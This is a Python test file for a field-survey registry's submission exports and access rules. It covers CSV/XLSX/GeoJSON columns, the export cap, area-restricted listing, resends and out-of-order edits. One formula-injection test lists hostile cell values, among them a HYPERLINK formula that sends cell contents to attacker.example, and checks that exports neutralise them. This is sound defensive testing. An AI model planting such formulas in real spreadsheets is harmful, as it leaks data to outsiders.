"""Field review #2 #3 #4 #7 #8 #9: submissions, their exports and who sees them.

Everything goes through the real surfaces: ODK Collect's OpenRosa conversation and the
Iaso app's calls over HTTP on 127.0.0.1, the REST listing, and ``georeg submissions``
run as a command.

* #2 a form's answers named like the export's own columns (``status``, ``latitude``…)
  are kept beside them as ``data/<name>``; GeoJSON's point is the submission's own.
* #3 a text answer is never written as a formula (XLSX string cells, CSV ``'`` guard).
* #4 an export holds every submission, past the old 100,000 cap.
* #7 a submission for a unit made on the phone (creation pending) is listed for its
  sender and her area's reviewer, not for a collector of another area.
* #8 a resend with another file under a held name keeps both; the phone is told.
* #9 an edit that arrives before its original: the original is stored superseded.
"""

from __future__ import annotations

import csv
import json
import os
import sqlite3
import subprocess
import sys
import uuid
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests
from requests.auth import HTTPDigestAuth
from sqlalchemy import text

from local_server import forms as core_forms
from local_server import projects, users
from storage.registry import Registry
from tests.openrosa_helpers import (
    ROOT,
    Setup,
    SyntheticCollect,
    build_registry,
    instance_xml,
    message,
    thread_server,
)

APP = "org.georeg.review"
COLS_FORM = "review_cols"
BO = "O6uvpzGd5pu"  # a district outside Western Area


def _cols_form(folder: Path) -> Path:
    """A form whose questions are named like the export's fixed columns."""
    from openpyxl import Workbook

    wb = Workbook()
    survey = wb.active
    survey.title = "survey"
    survey.append(["type", "name", "label"])
    survey.append(["select_one_from_file orgunits.csv", "facility", "Facility"])
    survey.append(["text", "status", "Vaccination status"])
    survey.append(["text", "latitude", "Latitude written on the sign"])
    survey.append(["text", "form_version", "Card version"])
    survey.append(["geopoint", "gps", "GPS"])
    survey.append(["begin_group", "data", "Data"])
    survey.append(["text", "status", "Status inside a group named data"])
    survey.append(["end_group", "", ""])
    settings = wb.create_sheet("settings")
    settings.append(["form_id", "form_title", "version"])
    settings.append([COLS_FORM, "Columns", "1"])
    path = folder / "review_cols.xlsx"
    wb.save(path)
    return path


@pytest.fixture(scope="module")
def setup(tmp_path_factory: pytest.TempPathFactory) -> Setup:
    folder = tmp_path_factory.mktemp("subreview")
    (folder / "forms").mkdir()
    s = build_registry(folder / "registry.gpkg")
    with Registry.open(s.path) as reg:
        core_forms.add_form(reg, _cols_form(folder / "forms"), org_unit_field="facility")
        projects.add_project(reg, "Review", app_id=APP)
        for name, role, roots in (("rita", "reviewer", ["at6UHUQatSo"]),
                                  ("bob", "collector", [BO]),
                                  ("ama2", "collector", ["at6UHUQatSo"])):
            s.passwords[name] = f"{name}-pw-{uuid.uuid4().hex[:10]}"
            users.add_user(reg, name, s.passwords[name], role=role, roots=roots)
        with reg.write() as conn:  # the test form in the Iaso project
            conn.execute(text(
                "UPDATE form SET project_id = (SELECT fid FROM project WHERE app_id = :a) "
                "WHERE form_id = 'facility_visit'"), {"a": APP})
    return s


@pytest.fixture(scope="module")
def server(setup: Setup) -> Iterator[str]:
    with thread_server(setup.path) as base:
        yield base


def _collect(server: str, setup: Setup, user: str = "amina") -> SyntheticCollect:
    return SyntheticCollect(server, user, setup.passwords[user])


def _cli(*args: str) -> subprocess.CompletedProcess[str]:
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    return subprocess.run([sys.executable, "-m", "georeg.cli", *args], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=600)


def _rows(setup: Setup, instance_id: str) -> list[dict[str, Any]]:
    """The stored rows of an instanceID (superseded ones too), with their files."""
    with Registry.open(setup.path) as reg, reg.read() as conn:
        out = []
        for fid, status in conn.execute(text(
                "SELECT fid, status FROM submission WHERE instance_id = :i"),
                {"i": instance_id}):
            files = {str(n): bytes(c) for n, c in conn.execute(text(
                "SELECT filename, content FROM attachment WHERE submission_fid = :f"),
                {"f": fid})}
            out.append({"fid": int(fid), "status": status, "files": files})
    return out


def _cols_xml(facility: str, *, status: str = "none", latitude: str = "8.4711",
              gps: str = "8.48 -13.23 12 5") -> tuple[bytes, str]:
    iid = f"uuid:{uuid.uuid4()}"
    xml = (f'<?xml version="1.0"?><data id="{COLS_FORM}" version="1">'
           f"<facility>{facility}</facility><status>{status}</status>"
           f"<latitude>{latitude}</latitude><form_version>card-7</form_version>"
           f"<gps>{gps}</gps><data><status>inner</status></data>"
           f"<meta><instanceID>{iid}</instanceID></meta></data>")
    return xml.encode(), iid


# --- #2 columns named like the export's own ------------------------------------------------


def test_export_keeps_answers_named_like_fixed_columns_apart(server: str, setup: Setup,
                                                             tmp_path: Path) -> None:
    xml, iid = _cols_xml(setup.inside)
    assert [r.status_code for r in _collect(server, setup).submit(xml)] == [201]

    out = tmp_path / "cols.csv"
    done = _cli("submissions", str(setup.path), "--form", COLS_FORM, "--out", str(out))
    assert done.returncode == 0, done.stderr
    with out.open(encoding="utf-8", newline="") as fh:
        reader = csv.reader(fh)
        header = next(reader)
        rows = [dict(zip(header, r, strict=True)) for r in reader]
    assert len(header) == len(set(header)), header  # no column written twice
    row = next(r for r in rows if r["instance_id"] == iid)
    assert row["status"] == "complete"  # the submission's status, not the answer
    assert row["latitude"] == "8.48" and row["longitude"] == "-13.23"  # from the GPS
    assert row["form_version"] == "1"
    assert row["data/status"] == "none" and row["data/latitude"] == "8.4711"
    assert row["data/form_version"] == "card-7"
    # the group named "data" keeps its own question, not mixed up with the renamed one
    assert row["data/data/status"] == "inner"

    geo = tmp_path / "cols.geojson"
    done = _cli("submissions", str(setup.path), "--form", COLS_FORM, "--out", str(geo))
    assert done.returncode == 0, done.stderr
    feature = next(f for f in json.loads(geo.read_text())["features"]
                   if f["properties"]["instance_id"] == iid)
    assert feature["geometry"] == {"type": "Point", "coordinates": [-13.23, 8.48]}
    assert feature["properties"]["status"] == "complete"
    assert feature["properties"]["data/latitude"] == "8.4711"


# --- #3 formula injection ------------------------------------------------------------------

_HOSTILE = ['=HYPERLINK("http://attacker.example/x?leak="&amp;A2,"Open photo")',
            "=== fridge broken ===", "+1+2", "@SUM(1)", "-2+3"]


def test_export_never_writes_answers_as_formulas(server: str, setup: Setup,
                                                 tmp_path: Path) -> None:
    from openpyxl import load_workbook

    collect = _collect(server, setup)
    sent = {}
    for remarks in [*_HOSTILE, "-5", "fine"]:
        xml, iid = instance_xml(setup.inside, remarks=remarks, photo=None)
        assert [r.status_code for r in collect.submit(xml)] == [201]
        sent[iid] = remarks.replace("&amp;", "&")

    xlsx = tmp_path / "fv.xlsx"
    done = _cli("submissions", str(setup.path), "--form", "facility_visit", "--out", str(xlsx))
    assert done.returncode == 0, done.stderr
    with zipfile.ZipFile(xlsx) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
    ws = load_workbook(xlsx).active
    header = [c.value for c in ws[1]]
    got = {r[header.index("instance_id")].value: r[header.index("remarks")]
           for r in ws.iter_rows(min_row=2)}
    for iid, remarks in sent.items():
        assert got[iid].value == remarks and got[iid].data_type == "s", (remarks, got[iid])

    out = tmp_path / "fv.csv"
    done = _cli("submissions", str(setup.path), "--form", "facility_visit", "--out", str(out))
    assert done.returncode == 0, done.stderr
    cells = {r["instance_id"]: r["remarks"]
             for r in csv.DictReader(out.open(encoding="utf-8", newline=""))}
    for iid, remarks in sent.items():
        if remarks in ("-5", "fine"):
            assert cells[iid] == remarks  # a negative number is not a formula
        else:
            assert cells[iid] == "'" + remarks


# --- #4 no cap -----------------------------------------------------------------------------


def test_export_writes_every_submission_past_100000(server: str, setup: Setup,
                                                    tmp_path: Path) -> None:
    big = tmp_path / "big.gpkg"
    with sqlite3.connect(str(setup.path)) as src, sqlite3.connect(str(big)) as dst:
        src.backup(dst)
    with sqlite3.connect(str(big)) as db:
        before = db.execute("SELECT count(*) FROM submission WHERE status <> 'superseded'"
                            ).fetchone()[0]
        db.execute(
            "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 100050) "
            "INSERT INTO submission (instance_id, form_fid, form_id, xml, xml_md5, data, "
            "submitted_by) SELECT 'uuid:bulk-' || i, (SELECT fid FROM form WHERE form_id = "
            "'facility_visit'), 'facility_visit', X'3C612F3E', 'x', "
            "'{\"remarks\": \"n' || i || '\"}', 'amina' FROM n")
    out = tmp_path / "big.csv"
    done = _cli("submissions", str(big), "--out", str(out))
    assert done.returncode == 0, done.stderr
    total = before + 100_050
    assert f"Wrote {total} submission(s)" in done.stdout, done.stdout
    ids = [r["instance_id"] for r in csv.DictReader(out.open(encoding="utf-8", newline=""))]
    assert len(ids) == len(set(ids)) == total
    # oldest first, the first of the bulk included
    assert ids[before] == "uuid:bulk-1" and ids[-1] == "uuid:bulk-100050"


# --- #7 a unit made on the phone -----------------------------------------------------------


def _token(server: str, setup: Setup, user: str) -> dict[str, str]:
    r = requests.post(f"{server}/api/token/", timeout=30,
                      json={"username": user, "password": setup.passwords[user]})
    assert r.status_code == 200, r.text
    return {"Authorization": f"Bearer {r.json()['access']}"}


def _listed(server: str, setup: Setup, user: str) -> set[str]:
    r = requests.get(f"{server}/api/v1/submissions", params={"limit": 1000}, timeout=60,
                     headers=_token(server, setup, user))
    assert r.status_code == 200, r.text
    return {s["instance_id"] for s in r.json()["submissions"]}


def test_submission_for_a_pending_phone_unit_is_listed_in_its_area(server: str,
                                                                    setup: Setup) -> None:
    auth = _token(server, setup, "amina")
    with Registry.open(setup.path) as reg, reg.read() as conn:
        parent = conn.execute(text(
            "SELECT p.uuid FROM org_unit u JOIN org_unit p ON p.version_id = u.version_id AND "
            "p.unit_key = u.parent_key WHERE u.uuid = :u"), {"u": setup.inside}).scalar_one()
        type_id = conn.execute(text("SELECT type_id FROM org_unit WHERE uuid = :u"),
                               {"u": setup.inside}).scalar_one()
        form_fid = conn.execute(text("SELECT fid FROM form WHERE form_id = 'facility_visit'")
                                ).scalar_one()
    unit = str(uuid.uuid4())
    r = requests.post(f"{server}/api/mobile/orgunits/", params={"app_id": APP}, headers=auth,
                      timeout=30, json=[{"id": unit, "name": "Pending Post", "parentId": parent,
                                         "orgUnitTypeId": type_id, "created_at": 2}])
    assert r.status_code == 200, r.text
    iid = str(uuid.uuid4())
    xml = (f'<?xml version="1.0"?><data id="facility_visit" version="1"><remarks>at the '
           f"new post</remarks><meta><instanceID>uuid:{iid}</instanceID></meta></data>")
    r = requests.post(f"{server}/api/instances/", params={"app_id": APP}, headers=auth,
                      timeout=30, json=[{"id": iid, "file": "/sdcard/odk/instances/p.xml",
                                         "formId": str(form_fid), "orgUnitId": unit,
                                         "created_at": 3}])
    assert r.status_code == 200, r.text
    r = requests.post(f"{server}/sync/form_upload/", params={"app_id": APP}, headers=auth,
                      timeout=30, files={"xml_submission_file": ("p.xml", xml.encode(),
                                                                 "text/xml")})
    assert r.status_code == 201, r.text
    with Registry.open(setup.path) as reg, reg.read() as conn:
        assert conn.execute(text("SELECT org_unit_uuid FROM submission WHERE instance_id = :i"),
                            {"i": f"uuid:{iid}"}).scalar_one() == unit
    assert f"uuid:{iid}" in _listed(server, setup, "amina")
    assert f"uuid:{iid}" in _listed(server, setup, "rita")  # her area's reviewer
    assert f"uuid:{iid}" not in _listed(server, setup, "bob")  # another area


# --- #8 a resend never replaces a stored file ----------------------------------------------


def test_resend_with_other_bytes_under_a_held_name_keeps_both(server: str,
                                                              setup: Setup) -> None:
    collect = _collect(server, setup)
    xml, iid = instance_xml(setup.inside)
    first = collect.submit(xml, {"photo.jpg": b"\xff\xd8ORIGINAL-PHOTO"})
    assert [r.status_code for r in first] == [201]

    again = collect.submit(xml, {"photo.jpg": b"x"})  # truncated retry, same name
    assert [r.status_code for r in again] == [201]
    assert "photo (2).jpg" in message(again[0]) and "both are kept" in message(again[0])
    [row] = _rows(setup, iid)
    assert row["files"] == {"photo.jpg": b"\xff\xd8ORIGINAL-PHOTO", "photo (2).jpg": b"x"}

    # the same other file once more adds nothing; the original once more neither
    for content in (b"x", b"\xff\xd8ORIGINAL-PHOTO"):
        r = collect.submit(xml, {"photo.jpg": content})
        assert [x.status_code for x in r] == [202]
    assert len(_rows(setup, iid)[0]["files"]) == 2


# --- #9 an edit before its original --------------------------------------------------------


def test_original_arriving_after_its_edit_is_superseded(server: str, setup: Setup) -> None:
    collect = _collect(server, setup)
    original, a = instance_xml(setup.inside, remarks="original")
    edit, e = instance_xml(setup.inside, remarks="edited", deprecated_id=a)
    assert [r.status_code for r in collect.submit(edit, {"sig.png": b"SIG"})] == [201]
    late = collect.submit(original, {"photo.jpg": b"PHOTO", "sig.png": b"OLD-SIG"})
    assert [r.status_code for r in late] == [201]
    assert "edit of it was received before" in message(late[0])

    assert [r["status"] for r in _rows(setup, a)] == ["superseded"]
    [edited] = _rows(setup, e)
    assert edited["status"] == "complete"
    # the edit keeps its own files and gains the ones only the original brought
    assert edited["files"] == {"sig.png": b"SIG", "photo.jpg": b"PHOTO"}
    listed = requests.get(f"{server}/api/v1/submissions", params={"limit": 1000}, timeout=60,
                          auth=HTTPDigestAuth("kofi", setup.passwords["kofi"])).json()
    ids = {s["instance_id"] for s in listed["submissions"]}
    assert e in ids and a not in ids


def test_an_edit_by_someone_else_does_not_hide_the_original(server: str,
                                                            setup: Setup) -> None:
    original, a = instance_xml(setup.inside, remarks="ama2's")
    edit, e = instance_xml(setup.inside, remarks="amina claims it", deprecated_id=a)
    assert [r.status_code for r in _collect(server, setup).submit(edit)] == [201]
    assert [r.status_code for r in _collect(server, setup, "ama2").submit(original)] == [201]
    assert [r["status"] for r in _rows(setup, a)] == ["complete"]


def test_export_json_is_valid_and_counts_an_edited_submission_once(server: str, setup: Setup,
                                                                   tmp_path: Path) -> None:
    collect = _collect(server, setup)
    original, a = instance_xml(setup.inside, remarks="v1", photo=None)
    edit, e = instance_xml(setup.inside, remarks="v2", deprecated_id=a, photo=None)
    assert [r.status_code for r in collect.submit(edit)] == [201]
    assert [r.status_code for r in collect.submit(original)] == [201]
    out = tmp_path / "all.json"
    done = _cli("submissions", str(setup.path), "--out", str(out))
    assert done.returncode == 0, done.stderr
    ids = [s["instance_id"] for s in json.loads(out.read_text(encoding="utf-8"))]
    assert e in ids and a not in ids and len(ids) == len(set(ids))
    assert f"Wrote {len(ids)} submission(s)" in done.stdout


# --- the same on a PostgreSQL registry -----------------------------------------------------


@pytest.fixture(scope="module")
def pg_setup(tmp_path_factory: pytest.TempPathFactory, postgis_url: str) -> Setup:
    folder = tmp_path_factory.mktemp("pg-subreview")
    location = f"{postgis_url}?schema=srv_{uuid.uuid4().hex[:10]}"
    return build_registry(folder / "registry.gpkg", location=location)


@pytest.mark.postgis
def test_postgresql_edit_first_resend_and_export(pg_setup: Setup, tmp_path: Path) -> None:
    with thread_server(pg_setup.path) as base:
        collect = _collect(base, pg_setup)
        original, a = instance_xml(pg_setup.inside, remarks="=1+1")
        edit, e = instance_xml(pg_setup.inside, remarks="edited", deprecated_id=a)
        assert [r.status_code for r in collect.submit(edit, {"photo.jpg": b"NEW"})] == [201]
        assert [r.status_code for r in collect.submit(original, {"photo.jpg": b"OLD"})] == [201]
        again = collect.submit(original, {"photo.jpg": b"OTHER"})
        assert [r.status_code for r in again] == [201] and "photo (2).jpg" in message(again[0])
    [stored] = _rows(pg_setup, a)
    assert stored["status"] == "superseded"
    assert stored["files"] == {"photo.jpg": b"OLD", "photo (2).jpg": b"OTHER"}
    out = tmp_path / "pg.csv"
    done = _cli("submissions", str(pg_setup.path), "--out", str(out))
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert [r["instance_id"] for r in rows] == [e]
    assert rows[0]["remarks"] == "edited"

